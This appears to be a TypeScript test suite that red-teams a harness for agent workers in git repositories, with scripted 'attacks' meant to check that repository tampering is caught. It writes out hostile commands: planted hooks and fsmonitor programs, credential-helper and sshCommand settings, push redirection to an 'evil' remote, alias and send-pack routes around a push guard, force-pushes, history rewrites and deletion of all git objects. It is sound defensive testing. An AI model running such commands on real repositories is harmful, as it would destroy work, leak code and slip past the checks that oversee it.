import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Workshop } from '../../../rig/worker/workshop.ts';
import type { Attack, Place, Scene, Seen } from '../attack.ts';

const COMMON = '"$(git rev-parse --git-common-dir)"';
const GRAPH = '.git/objects/info/commit-graph';
const group = 'git';

/** A setting of the repository that is still there after the worker. */
const setting = (id: string, key: string, value: string, title: string): Attack => ({
  id,
  title,
  calls: () => [`git config ${key} '${value}'`],
  stands: ({ git, place }) => git(place.root, 'config', '--local', '--get', key).trim() === value,
  told: new RegExp(`(?:git/config|\\.git/config|"config|${key.replaceAll('.', '\\.')})`, 'i'),
});

/** A program that SAGA's own git runs. It leaves its name if no run is around it. */
const program = (id: string, title: string, plant: (script: string) => string): Attack => ({
  id,
  title,
  calls: ({ home, folder }) => {
    const script = `${folder}/${id}.sh`;
    return [
      `printf '#!/bin/sh\\ntest -n "$SAGA_RUN_ID" || echo ${id} >> ${home}/planted\\n' > ${script} && chmod +x ${script}; ${plant(script)}`,
    ];
  },
  stands: ({ planted }) => planted.split('\n').includes(id),
  told: /hooks|git\/config|info\/attributes/,
});

const hook = (name: string) => (script: string) =>
  `mkdir -p ${COMMON}/hooks; cp ${script} ${COMMON}/hooks/${name}`;

/** A ref that the run moved, made or deleted. */
const ref = (id: string, title: string, name: string, command: string): Attack => ({
  id,
  title,
  calls: () => [command],
  stands: ({ git, place, it }: Seen) =>
    git(place.root, 'for-each-ref', '--format=%(objectname)', name) !==
    (before.get(it.root)?.[name] ?? ''),
  told: new RegExp(name.replace(/^refs\/(heads\/|tags\/)?/, '')),
});
const before = new Map<string, Record<string, string>>();
const REFS = [
  'refs/heads/main',
  'refs/heads/story/other',
  'refs/heads/keep',
  'refs/tags/v9',
  'refs/notes/commits',
  'refs/stash',
];

const alone = (attack: Attack, more: Partial<Scene> = {}): Scene => ({
  id: attack.id,
  group,
  ...more,
  attacks: [attack],
});

export const gitScenes: Scene[] = [
  {
    id: 'git-programs',
    group,
    attacks: [
      program('hook-pre-push', 'plants a pre-push hook', hook('pre-push')),
      program('hook-ref', 'plants a reference-transaction hook', hook('reference-transaction')),
      program('hook-commit', 'plants a pre-commit hook', hook('pre-commit')),
      program('hook-checkout', 'plants a post-checkout hook', hook('post-checkout')),
      program(
        'fsmonitor',
        'plants a file system monitor',
        (it) => `git config core.fsmonitor ${it}`,
      ),
      program(
        'receive-pack',
        'names a program of its own for the other end of a push',
        (it) => `git config remote.origin.receivepack '${it};git-receive-pack'`,
      ),
    ],
  },
  {
    id: 'git-settings',
    group,
    attacks: [
      setting('set-ssh', 'core.sshCommand', 'sh -c evil', 'names a program as core.sshCommand'),
      setting('set-helper', 'credential.helper', '!evil', 'names a credential helper'),
      setting('set-gpg', 'gpg.program', '/tmp/evil', 'names a program that signs'),
      setting('set-include', 'include.path', '/tmp/evil.conf', 'includes a foreign settings file'),
      setting('set-alias', 'alias.st', '!evil', 'plants an alias'),
      setting('set-diff', 'diff.external', '/tmp/evil', 'names a program that shows differences'),
      setting('set-editor', 'core.pager', 'evil', 'names a pager'),
    ],
  },
  alone({
    id: 'push-url',
    title: 'sets another push URL, so that the branch goes elsewhere',
    calls: ({ evil }) => [`git config remote.origin.pushurl ${evil}`],
    stands: ({ git, place }) => git(place.evil, 'for-each-ref') !== '',
    told: /git\/config|push:failed|remote/,
  }),
  alone({
    id: 'instead-of',
    title: 'redirects the remote with url.<base>.insteadOf',
    calls: ({ evil, origin }) => [`git config url.${evil}.insteadOf ${origin}`],
    stands: ({ git, place }) => git(place.evil, 'for-each-ref') !== '',
    told: /git\/config|push:failed|remote/,
  }),
  alone({
    id: 'core-worktree',
    title: 'points the repository at another folder with core.worktree',
    calls: ({ outside }) => [`git config core.worktree ${outside}`],
    stands: ({ git, place }) => git(place.root, 'config', '--get', 'core.worktree') !== '',
    told: /git\/config|core\.worktree|worker:end","kind":"error"/,
  }),
  {
    id: 'refs',
    group,
    prepare(it) {
      it.git('branch', 'keep');
      it.git('branch', 'story/other');
    },
    beforeStart(it) {
      const found = REFS.map((name) => [
        name,
        it.git('for-each-ref', '--format=%(objectname)', name),
      ]);
      before.set(it.root, Object.fromEntries(found));
    },
    attacks: [
      ref(
        'ref-main',
        'moves the branch main',
        'refs/heads/main',
        'git update-ref refs/heads/main $(git commit-tree -m evil HEAD^{tree})',
      ),
      ref(
        'ref-story',
        'moves the branch of another story',
        'refs/heads/story/other',
        'git update-ref refs/heads/story/other $(git commit-tree -m evil HEAD^{tree})',
      ),
      ref('ref-delete', 'deletes a branch', 'refs/heads/keep', 'git branch -qD keep'),
      ref('ref-tag', 'makes a tag for a release', 'refs/tags/v9', 'git tag v9'),
      ref('ref-notes', 'writes git notes', 'refs/notes/commits', 'git notes add -m evil HEAD'),
      {
        ...ref(
          'ref-stash',
          'puts work into the stash that all worktrees share',
          'refs/stash',
          'echo x > s.txt; git add s.txt; git stash -q',
        ),
        told: /stash/,
      },
    ],
  },
  {
    id: 'pushes',
    group,
    attacks: [
      {
        id: 'push-plain',
        title: 'calls git push',
        calls: () => ['git push origin HEAD:refs/heads/plain'],
        stands: ({ git, place }) => git(place.origin, 'for-each-ref', 'refs/heads/plain') !== '',
        told: /guard:denied/,
      },
      {
        id: 'push-alias',
        title: 'pushes by an alias',
        calls: () => ['git -c alias.p=push p -q origin HEAD:refs/heads/by-alias'],
        stands: ({ git, place }) => git(place.origin, 'for-each-ref', 'refs/heads/by-alias') !== '',
        told: /by-alias/,
      },
      {
        id: 'push-pack',
        title: 'pushes with git send-pack',
        calls: ({ origin }) => [`git send-pack ${origin} HEAD:refs/heads/by-pack`],
        stands: ({ git, place }) => git(place.origin, 'for-each-ref', 'refs/heads/by-pack') !== '',
        told: /by-pack/,
      },
      {
        id: 'push-main',
        title: 'pushes to main from a script',
        calls: () => [
          `echo 'git commit -q --allow-empty -m evil; git push -qf origin HEAD:main' > /tmp/p-$$.sh; sh /tmp/p-$$.sh`,
        ],
        stands: ({ git, place }) =>
          git(place.origin, 'log', '--format=%s', 'main').includes('evil'),
        told: /base|origin\/main|moved/,
      },
    ],
  },
  alone({
    id: 'git-file',
    title: 'puts a repository of its own in the place of the worktree’s .git file',
    calls: () => [
      `git clone -q . /tmp/own-$$ && (rm -f .git; mv /tmp/own-$$/.git .git); git status --short | head -3; true`,
    ],
    stands: ({ hasPassed, git, place }) =>
      hasPassed && git(place.worktree, 'rev-parse', '--git-common-dir').trim() === '.git',
    told: /git:repaired|gate:failed/,
  }),
  alone({
    id: 'branch-clash',
    title: 'deletes its branch and makes one below that name',
    calls: () => [
      'c=$(git rev-parse HEAD); git switch -q --detach; git update-ref -d refs/heads/story/cart; git update-ref refs/heads/story/cart/x $c',
    ],
    stands: ({ git, place }) => git(place.root, 'for-each-ref', 'refs/heads/story/cart/') !== '',
    told: /story\/cart\/x|branch:|git:repaired|worker:end","kind":"error"/,
  }),
  alone({
    id: 'alternates',
    title: 'adds an object store of its own to the repository',
    calls: ({ evil }) => [`echo ${evil}/objects >> ${COMMON}/objects/info/alternates`],
    stands: ({ git, place }) =>
      git(place.root, 'count-objects', '-v').includes(`alternate: ${place.evil}`),
    told: /alternates/,
  }),
  alone({
    id: 'commit-graph',
    title: 'writes a damaged commit-graph',
    calls: () => [
      `git commit-graph write --reachable; chmod u+w ${COMMON}/objects/info/commit-graph; echo broken > ${COMMON}/objects/info/commit-graph`,
    ],
    stands: ({ place }) =>
      existsSync(join(place.root, GRAPH)) &&
      readFileSync(join(place.root, GRAPH), 'latin1') === 'broken\n',
    told: /commit-graph/,
    harmless: 'git ignores a commit-graph that it cannot read.',
  }),
  alone({
    id: 'objects',
    title: 'deletes all objects of the repository',
    calls: () => [`rm -rf ${COMMON}/objects/?? ${COMMON}/objects/pack; true`],
    stands: ({ git, place }) => git(place.root, 'rev-parse', 'main^{tree}') === '',
    told: /worker:end","kind":"error"|gate:failed|push:failed/,
  }),
  alone({
    id: 'submodule',
    title: 'adds a submodule whose update command is a program',
    calls: ({ evil, home }) => [
      `printf '[submodule "m"]\\n\\tpath = m\\n\\turl = ${evil}\\n\\tupdate = !echo submodule >> ${home}/planted\\n' > .gitmodules; mkdir -p m; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),m; git add .gitmodules; git commit -qm sub`,
    ],
    stands: ({ planted }) => planted.includes('submodule'),
  }),
  alone(
    {
      id: 'submodule-filter',
      title: 'plants a filter in the git folder of a submodule, for the next git status to run',
      calls: ({ home }) => [
        `cd m && git config filter.q.clean 'sh -c "test -n \\"$SAGA_RUN_ID\\" || echo submodule-filter >> ${home}/planted; cat"'; D="$(git rev-parse --git-dir)"; mkdir -p "$D/info"; echo '* filter=q' > "$D/info/attributes"; git config --get filter.q.clean; touch -d 2001-01-01 a.txt; : > "$D/index.lock"`,
      ],
      stands: ({ planted }) => planted.includes('submodule-filter'),
      told: /modules/,
    },
    { prepare: addSubmodule },
  ),
  alone({
    id: 'rewrite-history',
    title: 'rewrites commits that were already pushed',
    calls: () => [
      'git commit -q --amend -m REWRITTEN --no-edit --allow-empty; git reset -q --soft $(git rev-list --max-parents=0 HEAD | tail -1); git commit -qm ROOTED',
    ],
    stands: ({ git, place, hasPassed }) =>
      hasPassed && git(place.origin, 'log', '--format=%s', 'story/cart').includes('ROOTED'),
    told: /work:kept|push:failed|history|branch:/,
  }),
];

/** A submodule that setup checks out. */
function addSubmodule(it: Workshop, { evil, folder, root }: Place): void {
  const env = { PATH: process.env.PATH, HOME: it.home };
  const git = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, env });
  const source = join(folder, 'source');
  git(folder, 'clone', '-q', evil, source);
  writeFileSync(join(source, 'a.txt'), 'a\n');
  git(source, 'add', '-A');
  git(source, 'commit', '-qm', 'a');
  git(source, 'push', '-q', 'origin', 'HEAD');
  git(root, '-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add', evil, 'm');
  const config = JSON.parse(it.read('.saga/config.json'));
  it.write('.saga/config.json', {
    ...config,
    sandbox: { allow: [evil] },
    worktree: { setup: 'git -c protocol.file.allow=always submodule --quiet update --init' },
  });
}
